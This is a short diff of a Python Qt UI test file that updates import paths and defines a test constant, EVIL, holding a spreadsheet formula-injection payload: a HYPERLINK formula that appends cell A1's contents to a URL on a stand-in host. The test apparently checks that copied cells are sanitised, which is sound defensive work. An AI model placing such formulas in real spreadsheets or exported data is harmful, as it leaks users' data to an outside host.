@@ -7,10 +7,10 @@ from PySide6.QtCore import QItemSelectionModel, QStringListModel, Qt
 from PySide6.QtWidgets import QApplication, QComboBox, QListView, QListWidget, QTableView
 from pytestqt.qtbot import QtBot
 
-from app.values.outgoing import harmless
+from app.text import harmless
 from tests.ui.conftest import WAIT
 from tests.ui.sheets import HEADERS, rows
-from ui.copying import copies, copy_cells
+from ui.kit.copying import copies, copy_cells
 from ui.main import Program
 
 EVIL = '=HYPERLINK("http://host.example/?"&A1,"x")'
